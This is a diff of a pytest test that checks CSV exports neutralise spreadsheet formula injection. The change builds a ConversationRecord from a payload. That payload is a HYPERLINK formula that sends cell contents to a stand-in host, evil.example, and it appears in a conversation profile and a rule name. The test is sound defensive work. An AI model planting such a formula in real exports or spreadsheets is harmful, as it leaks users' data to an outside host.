@@ -103,12 +103,14 @@ def test_a_zip_entry_holding_a_nul_is_refused_and_nothing_is_imported(auth_api, 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_spreadsheet_formulas_are_neutralised_in_every_csv_export(auth_api, start):
+    from engine.conversation import ConversationRecord
     from runs.models import Conversation, RuleResult, Run
     from tests.factories import RunFactory
 
     formula = f'{start}HYPERLINK("https://evil.example/?"&A1, "open")'
     sensei = RunFactory(owner=auth_api.user, kind=Run.Kind.SENSEI, status=Run.Status.SUCCEEDED)
-    Conversation.objects.create(run=sensei, profile=formula, index=0, record={"id": "c0"}, turns=2)
+    record = ConversationRecord(id="c0", profile=formula).model_dump(mode="json")
+    Conversation.objects.create(run=sensei, profile=formula, index=0, record=record, turns=2)
     check = RunFactory(owner=auth_api.user, kind=Run.Kind.CHECK, status=Run.Status.SUCCEEDED)
     RuleResult.objects.create(run=check, name=formula, status="passed")
     for run in (sensei, check):
